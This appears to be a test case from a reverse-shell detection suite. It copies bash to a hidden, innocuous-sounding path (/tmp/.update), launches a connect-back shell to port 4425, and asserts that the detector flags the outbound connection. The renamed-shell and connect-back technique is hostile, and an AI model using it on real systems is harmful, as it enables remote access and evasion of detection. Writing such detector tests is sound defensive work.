# R15b: a shell that is a copy under another name
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4425

#: prepare
. lib/peers.sh
peer 4425; cp /bin/bash /tmp/.update
#: act
. lib/peers.sh
act
/opt/connect-back 4425 /tmp/.update < /dev/null > /dev/null 2>&1
who shell /tmp/.update
await 'at $shell 0 socket:* && at $shell ../exe /tmp/.update'
#: clean
rm -f /tmp/.update
